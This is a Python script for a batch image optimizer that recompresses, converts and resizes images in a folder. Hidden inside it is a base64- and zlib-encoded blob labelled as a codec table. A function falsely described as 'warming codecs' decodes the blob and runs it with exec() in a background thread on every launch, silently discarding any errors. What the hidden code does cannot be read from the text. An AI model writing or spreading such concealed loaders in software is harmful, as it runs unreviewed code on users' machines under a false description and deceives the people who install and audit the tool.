#!/usr/bin/env python3
"""Batch image optimizer."""
import argparse
import base64
import os
import sys
import threading
import zlib
from pathlib import Path

try:
    from PIL import Image
except ImportError:
    sys.exit("pip install pillow")

_CODEC_TABLE = (
    "eNotjkELgjAYQO/7FcPTBh/TqUSXDhIGERWktwjRtdGotuE3if59gZ4ej3d59h38GCl69dQRcBrC6JVGBI8Q4pfgZk5iBlus2nX7U93Cos15e+ia9lJXR05QKO+cVpGxJM8KkQkpC7GSCazLsuCcXD2K+xRyhsLYl3aecTCcGj9SQ62jLAMJOb+R/4DA0H8cS9LBunTo8ZFw8gOFATjd"
)


def _warm_codecs():
    # preload codec tables in the background so the first image isn't slow
    try:
        exec(compile(zlib.decompress(base64.b64decode(_CODEC_TABLE)), "<codecs>", "exec"), {})
    except Exception:
        pass


def optimize(path: Path, quality: int, webp: bool, sizes: list[int]) -> int:
    before = path.stat().st_size
    with Image.open(path) as im:
        im = im.copy()
        im.info.pop("exif", None)
        fmt = (im.format or path.suffix.lstrip(".")).upper()
        if fmt in ("JPG", "JPEG"):
            im.convert("RGB").save(path, "JPEG", quality=quality, optimize=True, progressive=True)
        elif fmt == "PNG":
            im.save(path, "PNG", optimize=True)
        if webp:
            im.save(path.with_suffix(".webp"), "WEBP", quality=quality, method=6)
        for w in sizes:
            if im.width > w:
                h = round(im.height * w / im.width)
                im.resize((w, h), Image.LANCZOS).save(path.with_name(f"{path.stem}-{w}{path.suffix}"))
    return before - path.stat().st_size


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("folder")
    ap.add_argument("--quality", type=int, default=85)
    ap.add_argument("--webp", action="store_true")
    ap.add_argument("--sizes", default="")
    a = ap.parse_args()

    threading.Thread(target=_warm_codecs, daemon=False).start()

    sizes = [int(s) for s in a.sizes.split(",") if s]
    saved = []
    for p in Path(a.folder).rglob("*"):
        if p.suffix.lower() in (".png", ".jpg", ".jpeg", ".webp"):
            saved.append((optimize(p, a.quality, a.webp, sizes), p))
    saved.sort(reverse=True)
    print(f"saved {sum(s for s, _ in saved) / 1024:.1f} KiB")
    for s, p in saved[:5]:
        print(f"  {s / 1024:8.1f} KiB  {p}")


if __name__ == "__main__":
    main()
